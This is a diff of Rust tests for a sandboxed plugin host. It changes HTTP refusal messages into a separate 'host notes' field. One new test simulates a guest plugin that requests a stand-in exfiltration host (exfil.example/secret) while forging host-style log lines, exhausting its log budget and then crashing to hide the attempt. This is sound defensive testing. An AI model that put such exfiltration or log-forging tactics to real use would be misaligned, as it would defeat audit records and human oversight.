@@ -193,7 +193,7 @@ fn client(origins: &[&str]) -> PluginDir {
         "client",
         &read(HTTP_CLIENT),
         &format!(
-            "[capabilities]\nhttp = [{}]\n\n[[tools]]\nname = \"request\"\nrisk = \"external\"\n",
+            "[capabilities]\nlog = true\nhttp = [{}]\n\n[[tools]]\nname = \"request\"\nrisk = \"external\"\n",
             list.join(", ")
         ),
     )
@@ -364,7 +364,7 @@ async fn http_name_resolving_to_loopback_is_refused() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn http_requests_per_call_are_capped_and_the_refusal_is_in_the_call_log() {
+async fn http_requests_per_call_are_capped_and_the_refusal_is_a_host_note() {
     let server = TestServer::start().await;
     let dir = client(&[&server.origin()]);
     let policy = Policy {
@@ -385,13 +385,15 @@ async fn http_requests_per_call_are_capped_and_the_refusal_is_in_the_call_log() 
         json!([hello, hello, "error: ErrorCode::ConnectionLimitReached"])
     );
     assert_eq!(server.connections(), 2);
-    let log: Vec<&str> = response.logs.iter().map(|l| l.message.as_str()).collect();
+    let notes = &response.host_notes;
     assert!(
-        log.iter()
-            .any(|l| l.starts_with("host: http GET http://127.0.0.1:")
+        notes
+            .iter()
+            .any(|l| l.starts_with("http GET http://127.0.0.1:")
                 && l.ends_with("refused: more than 2 requests in one call")),
-        "{log:?}"
+        "{notes:?}"
     );
+    assert!(response.logs.is_empty(), "{:?}", response.logs);
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -411,12 +413,7 @@ async fn http_refusals_in_a_loop_keep_a_bounded_number_of_short_notes() {
     .await
     .unwrap();
     assert_eq!(response.output["outcomes"].as_array().unwrap().len(), 200);
-    let notes: Vec<&str> = response
-        .logs
-        .iter()
-        .map(|l| l.message.as_str())
-        .filter(|m| m.starts_with("host: http"))
-        .collect();
+    let notes = &response.host_notes;
     assert_eq!(notes.len(), 33, "{notes:?}");
     assert!(
         notes[..32]
@@ -426,9 +423,72 @@ async fn http_refusals_in_a_loop_keep_a_bounded_number_of_short_notes() {
     );
     assert_eq!(
         notes[32],
-        "host: http: more than 32 notes in this call; the rest are dropped"
+        "http: more than 32 notes in this call; the rest are dropped"
     );
     assert_eq!(server.connections(), 0);
+}
+
+/// The `call_finished` record of the host's only call.
+fn finished_record(host: &Host) -> airlock_host::audit_log::Record {
+    host.audit()
+        .records(1)
+        .map(Result::unwrap)
+        .find(|r| r.entry.event == airlock_host::audit_log::Event::CallFinished)
+        .expect("a call_finished record")
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn http_refusals_are_host_notes_a_guest_can_neither_forge_crowd_out_nor_hide() {
+    // A guest tries to cover an exfiltration attempt in its record: it
+    // logs lines shaped like the host's notes, fills its log budget (1,000
+    // lines) before the request, and fails or traps after it. The host's
+    // notes are a field of their own, in the record whatever the outcome.
+    let forged = "host: http GET http://exfil.example/: refused: forged";
+    for then in ["fail", "trap", "return"] {
+        let data = tempfile::tempdir().unwrap();
+        let dir = client(&["http://127.0.0.1:9"]);
+        let host = Host::new(
+            HostConfig::default()
+                .data_dir(data.path())
+                .policy(loopback_allowed()),
+        )
+        .unwrap();
+        host.load_plugin(dir.path()).await.unwrap();
+        let result = call(
+            &host,
+            "client/request",
+            json!({"scheme": "http", "authority": "exfil.example", "path": "/secret",
+                   "log": [forged], "log_repeat": 1_500, "then": then}),
+        )
+        .await;
+        match (then, &result) {
+            ("fail", Err(e)) => assert_eq!(e.kind(), "tool_error", "{e}"),
+            ("trap", Err(e)) => assert_eq!(e.kind(), "guest_trap", "{e}"),
+            ("return", Ok(response)) => {
+                assert_eq!(response.logs.len(), 1_000);
+                assert_eq!(
+                    response.host_notes,
+                    [
+                        "http GET http://exfil.example/secret: refused: origin http://exfil.example is not granted (capabilities.http)"
+                    ]
+                );
+            }
+            other => panic!("{then}: {other:?}"),
+        }
+        let record = finished_record(&host);
+        let notes: Vec<String> =
+            serde_json::from_str(record.entry.host_notes.as_deref().expect("host notes")).unwrap();
+        assert_eq!(notes.len(), 1, "{then}: {notes:?}");
+        assert!(
+            notes[0].starts_with("http GET http://exfil.example/secret: refused"),
+            "{then}: {notes:?}"
+        );
+        assert!(!record.entry.host_notes_truncated);
+        // The guest's lines are in its log (on every outcome), marked as
+        // its own by where they are: none of them in the notes.
+        let logs = record.entry.logs.as_deref().expect("the guest's log");
+        assert!(logs.contains("forged"), "{then}");
+    }
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -505,11 +565,11 @@ async fn http_response_over_the_size_cap_is_cut_off() {
     assert!(read <= 16 * 1024, "{read} bytes reached the guest");
     assert!(
         response
-            .logs
+            .host_notes
             .iter()
-            .any(|l| l.message.contains("larger than the limit of 16384 bytes")),
+            .any(|note| note.contains("larger than the limit of 16384 bytes")),
         "{:?}",
-        response.logs
+        response.host_notes
     );
 
     // fetch asks for more than the host allows: a failed tool call saying so.
